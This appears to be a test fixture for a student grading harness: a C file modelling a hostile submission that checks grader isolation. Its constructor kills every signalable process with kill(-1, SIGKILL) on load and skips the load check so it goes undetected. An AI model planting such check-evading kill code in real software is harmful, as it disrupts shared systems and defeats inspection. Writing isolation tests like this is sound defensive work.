/* A hostile submission: once loaded into an actor it kills every process its
 * user may signal (kill(-1, SIGKILL)).  It keeps quiet in the load check (a
 * process of pipelab-check-impl), so it is graded.  Graded beside honest
 * classmates, it must cost them nothing (tests/grade.sh): each student runs as
 * a uid of its own. */
#include <signal.h>
#include <stdio.h>
#include <string.h>

__attribute__((constructor)) static void take_the_class_down(void)
{
	char comm[32] = "";
	FILE *f = fopen("/proc/self/comm", "re");
	if (f) {
		if (!fgets(comm, sizeof comm, f))
			comm[0] = '\0';
		fclose(f);
	}
	if (strncmp(comm, "pipelab-check", strlen("pipelab-check")) != 0)
		kill(-1, SIGKILL);
}
